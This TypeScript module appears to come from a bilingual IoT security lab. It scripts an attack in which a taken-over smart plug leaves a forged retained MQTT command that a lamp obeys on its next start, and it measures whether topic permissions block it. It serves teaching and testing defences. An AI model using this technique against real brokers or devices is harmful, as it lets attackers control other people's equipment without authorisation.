import type { Attack } from "../attack.ts";
import { connect, loginOf, outcome, publish } from "../site/device.ts";
import { commandTopic, FORGED, startLed } from "../site/led.ts";

export const retained: Attack = {
  name: "retained",
  control: "publishPermission",
  texts: {
    en: {
      title: "Leave a retained command behind",
      what: "A plug that has been taken over leaves a command with the broker, to be kept: the lamp would get it at its next start, when the attacker is long gone.",
      steps: ["Leave a command and go", "The lamp starts", "See what the lamp did"],
      control: "Topic permissions",
      measured: "Commands the lamp obeyed that the site never gave.",
    },
    fr: {
      title: "Laisser une commande retenue",
      what: "Une prise détournée laisse au courtier une commande à conserver : la lampe la recevrait à son prochain démarrage, bien après le départ de l’attaquant.",
      steps: ["Laisser une commande et partir", "La lampe démarre", "Regarder ce que la lampe a fait"],
      control: "Droits sur les sujets",
      measured: "Commandes exécutées par la lampe que le site n’a jamais données.",
    },
  },
  async run(site, report) {
    const [lamp, plug] = [await site.addDevice("led"), await site.addDevice("plug")];
    report.step(0);
    const attacker = await connect(site.mqttPort, loginOf(plug));
    report.attacker(`${plug.name} PUBLISH retain ${commandTopic(lamp)} ${JSON.stringify(FORGED.params)}`);
    const answer = await publish(attacker, commandTopic(lamp), JSON.stringify(FORGED), true);
    await attacker.endAsync(true);
    report.site(answer);
    report.step(1);
    const led = await startLed(site, lamp);
    report.step(2);
    const isObeyed = await outcome(
      site.controls.publishPermission,
      () => led.obeyed.includes(FORGED.id),
      (is) => is,
    );
    report.site(`${lamp.name} obeyed ${led.obeyed.length} commands`);
    await led.client.endAsync(true);
    return { succeeded: isObeyed, evidence: { answer, obeyed: led.obeyed.length } };
  },
};
